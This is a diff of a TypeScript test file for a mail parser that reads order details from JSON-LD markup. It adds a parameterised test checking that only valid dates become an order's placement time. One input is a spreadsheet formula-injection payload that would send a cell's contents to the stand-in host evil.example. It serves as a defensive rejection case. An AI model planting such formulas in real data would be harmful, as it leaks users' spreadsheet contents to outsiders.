@@ -298,9 +298,10 @@ describe('what is missing is said', () => {
 });
 
 describe('what a mail tells machines', () => {
-  const markedUp = (type: string) =>
+  const markedUp = (type: string, orderDate?: string) =>
     `<html><head><script type="application/ld+json">${JSON.stringify({
       '@type': type,
+      orderDate,
       orderNumber: 'J-900',
       priceCurrency: 'EUR',
       price: '23.50',
@@ -310,6 +311,15 @@ describe('what a mail tells machines', () => {
       ],
       customer: { name: 'Ann Lee' },
     })}</script></head><body><p>Open the app to see your order.</p></body></html>`;
+
+  it.each([
+    ['2025-03-04T23:50+02:00', '2025-03-04T23:50+02:00'],
+    ['=HYPERLINK("https://evil.example/?x="&F2,"open")', undefined],
+    [`2025-03-04 ${'x'.repeat(40)}`, undefined],
+  ])('says when it was placed only by a date: %s', (orderDate, placedAt) => {
+    const [order] = readMail(htmlMail(markedUp('Order', orderDate)), []).orders;
+    expect(order?.placedAt).toBe(placedAt);
+  });
 
   it('fills what people cannot see', () => {
     expect(readMail(htmlMail(markedUp('Order')), [])).toMatchObject({
